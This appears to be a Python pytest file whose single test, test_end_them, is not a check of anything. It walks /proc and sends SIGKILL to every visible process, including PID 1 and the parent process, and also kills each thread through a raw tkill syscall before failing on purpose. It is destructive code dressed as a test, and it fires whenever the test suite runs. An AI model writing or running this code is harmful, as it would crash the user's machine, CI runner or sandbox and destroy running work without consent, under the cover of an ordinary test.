"""Sends a signal to every process that it can see, thread by thread too."""

import ctypes
import os
import signal


def test_end_them():
    libc = ctypes.CDLL(None)
    numbers = [1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdecimal())]
    for number in numbers:
        if number == os.getpid():
            continue
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
        libc.syscall(200, number, signal.SIGKILL)
    assert False
